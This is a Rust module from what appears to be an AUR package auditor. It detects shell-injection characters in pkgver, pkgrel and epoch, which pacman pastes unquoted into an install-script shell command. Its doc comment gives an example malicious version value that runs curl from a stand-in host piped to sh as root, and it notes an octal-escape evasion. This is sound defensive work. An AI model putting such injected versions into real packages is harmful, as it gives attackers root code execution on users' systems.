//! The package's version as shell code (attack 29 F10). libalpm runs an install script as
//! `sh -c ". .INSTALL; post_install VERSION"` (`trans.c` `_alpm_runscriptlet`: `". %s; %s %s"`)
//! with `epoch:pkgver-pkgrel` pasted **unquoted** into the shell's text. Neither side stops
//! shell code there: makepkg's `check_pkgver` forbids only whitespace, `:`, `/` and `-`, and
//! the format itself (alpm-pkgver(7), what alpm-types implements) is any ASCII but `:/-<>=` and
//! whitespace — so `pkgver='1;curl${IFS}evil.example|sh;true'` with a three-line harmless install
//! file is root running `curl | sh` on install, upgrade and removal. (`pkgrel` and `epoch` are
//! digits to makepkg's lint, checked the same here at no cost.)
//!
//! Class: *a value the package chooses reaches a shell's text*. The version is judged as the
//! text pacman pastes: every `pkgver`, `pkgrel` and `epoch` the PKGBUILD assigns (anywhere: a
//! `package()` may set it again before `.PKGINFO` is written), the `.SRCINFO`'s, and the literal
//! text a `pkgver()` function prints. Any character that makes the shell run something there (a
//! separator, a substitution, a subshell, a redirection) is `dangerous`; the versions real
//! packages carry (alphanumerics and `._+~`, with `:` and `-` as the separators) have none.
//!
//! What a `pkgver()` prints is judged in `printed_version.rs`: evaluated whatever prints it,
//! and as makepkg's re-sourcing of the rewritten PKGBUILD reads it (attack 31 F1, F13).
//!
//! What a `pkgver()` computes at build from the sources (`git describe` and friends) cannot be
//! read here: the audit does not flag it (it would make every VCS package with an install file
//! `review`); makepkg lints the result only for `:/-` and whitespace, so a tag made of shell code
//! would pass — left open (attack 29 F10).

use super::{Ctx, Sink};
use crate::audit::report::Severity;
use crate::audit::shell::{FileKind, Pos};

const FIELDS: &[&str] = &["pkgver", "pkgrel", "epoch"];

/// The first character of `v` that makes a shell reading `post_install v` run something: a
/// command separator or operator (`;`, `|`, `&`, a newline), a subshell or substitution (`(`,
/// `)`, a backquote — `$(…)` and `$((…))` hold a parenthesis), a redirection (`<`, `>`), and `$`:
/// `${x@P}` expands a variable the sourced `.INSTALL` set as a prompt, running the command
/// substitutions in it (attack 31 F1's class; a model's placeholder is `dynamic` and skipped).
/// Quotes, globs, braces, `#` and `~` change the arguments `post_install` gets, but run nothing.
/// Of the control characters only the newline separates commands: the others (a terminal's
/// colour escape `\e[1m`, a carriage return) are ordinary characters of the word to `sh`, and
/// makepkg refuses the white ones (`[[:space:]]`) in a version anyway.
pub(crate) fn shell_special(v: &str) -> Option<char> {
    v.chars().find(|&c| c == '\n' || ";|&()`<>$".contains(c))
}

/// What printf prints of its format, for judging: its directives taken out, its escapes
/// decoded as printf decodes them (`\073` is `;`: attack 30 F1 — the escape was dropped, so a
/// version printed as `1\073curl…\174sh` passed). A trailing `\n` is cut by makepkg's
/// `$(pkgver)`; one inside would be whitespace, which makepkg refuses.
pub(super) fn printed(format: &str) -> String {
    let mut out = String::new();
    let mut it = format.chars().peekable();
    while let Some(c) = it.next() {
        match c {
            '%' => {
                while it
                    .peek()
                    .is_some_and(|n| n.is_ascii_digit() || "-+ #.*'".contains(*n))
                {
                    it.next();
                }
                if it.next() == Some('%') {
                    out.push('%');
                }
            }
            '\\' => out.push_str(&unescaped_one(&mut it, false)),
            _ => out.push(c),
        }
    }
    out
}

/// What `echo -e` (and printf's `%b`) prints of a word: its escapes decoded.
pub(super) fn echoed(word: &str) -> String {
    let mut out = String::new();
    let mut it = word.chars().peekable();
    while let Some(c) = it.next() {
        if c == '\\' {
            out.push_str(&unescaped_one(&mut it, true));
        } else {
            out.push(c);
        }
    }
    out
}

/// One backslash escape after its `\`: octal (printf's `\NNN`; echo's `\0NNN`), `\xHH`,
/// `\uHHHH`, `\UHHHHHHHH` and the letters; an unknown one is itself.
fn unescaped_one(it: &mut std::iter::Peekable<std::str::Chars<'_>>, echo_octal: bool) -> String {
    let digits = |it: &mut std::iter::Peekable<std::str::Chars<'_>>, radix: u32, max: usize| {
        let mut v = 0u32;
        let mut n = 0;
        while n < max
            && let Some(d) = it.peek().and_then(|c| c.to_digit(radix))
        {
            v = v * radix + d;
            it.next();
            n += 1;
        }
        (n > 0).then_some(v)
    };
    let Some(c) = it.next() else {
        return "\\".to_owned();
    };
    let code = match c {
        '0' if echo_octal => digits(it, 8, 3).or(Some(0)),
        '0'..='7' if !echo_octal => {
            // printf's `\NNN`: this digit and up to two more.
            let mut v = c.to_digit(8).unwrap_or(0);
            for _ in 0..2 {
                match it.peek().and_then(|d| d.to_digit(8)) {
                    Some(d) => {
                        v = v * 8 + d;
                        it.next();
                    }
                    None => break,
                }
            }
            Some(v)
        }
        'x' => digits(it, 16, 2),
        'u' => digits(it, 16, 4),
        'U' => digits(it, 16, 8),
        'a' => Some(7),
        'b' => Some(8),
        'e' | 'E' => Some(27),
        'f' => Some(12),
        'n' => Some(10),
        'r' => Some(13),
        't' => Some(9),
        'v' => Some(11),
        _ => None,
    };
    match code.and_then(char::from_u32) {
        Some(ch) => ch.to_string(),
        None => format!("\\{c}"),
    }
}

pub(super) fn check(ctx: &Ctx, sink: &mut Sink) {
    let has_install = ctx.an.files.iter().any(|f| f.kind == FileKind::Install)
        || ctx
            .an
            .all_values("install")
            .iter()
            .any(|s| !s.text.is_empty());
    let why = |field: &str, v: &str, c: char| {
        let root = if has_install {
            "this package has an install script, so root runs it as shell code on every install, upgrade and removal"
        } else {
            "this package has no install script now, but any later one (or a split package's) makes root run it as shell code"
        };
        format!(
            "{field} `{v}` contains `{}`, which makes a shell run something: pacman runs install scripts as `sh -c \". .INSTALL; post_install VERSION\"` with the version pasted in unquoted — {root}",
            c.escape_default()
        )
    };
    for a in &ctx.an.assigns {
        if a.file != 0 || !FIELDS.contains(&a.name.as_str()) {
            continue;
        }
        for v in a.value.items() {
            // An unresolved part is the model's placeholder, not the package's text: judged by
            // the parts that were read.
            if let Some(c) = shell_special(&v.text).filter(|_| !v.dynamic) {
                sink.at(
                    "AUR-VERSION-CODE",
                    Severity::Critical,
                    0,
                    a.pos,
                    &a.snippet,
                    why(&a.name, &v.text, c),
                );
            }
        }
    }
    // The value after the top level ran, however it was set (`printf -v pkgver`, `read`).
    for field in FIELDS {
        if let Some(v) = ctx.an.global_str(field)
            && !v.dynamic
            && let Some(c) = shell_special(&v.text)
        {
            let (pos, snippet) = ctx.assign_pos(field).unwrap_or_default();
            sink.at(
                "AUR-VERSION-CODE",
                Severity::Critical,
                0,
                pos,
                &snippet,
                why(field, &v.text, c),
            );
        }
    }
    // What a pkgver() prints, as makepkg pastes it into the PKGBUILD and sources it again
    // (attack 31 F1, F13), and a version made from the file's own text unseen.
    super::printed_version::check(ctx, sink);
    super::printed_version::assigned_unseen(ctx, sink, FIELDS);
    let Some(si) = &ctx.srcinfo else { return };
    for field in FIELDS {
        for (line, v) in si.values(field) {
            if let Some(c) = shell_special(v) {
                sink.add(
                    "AUR-VERSION-CODE",
                    Severity::Critical,
                    ".SRCINFO",
                    Pos {
                        line: (*line).max(1),
                        col: 1,
                    },
                    &format!("{field} = {v}"),
                    why(field, v, c),
                );
            }
        }
    }
}
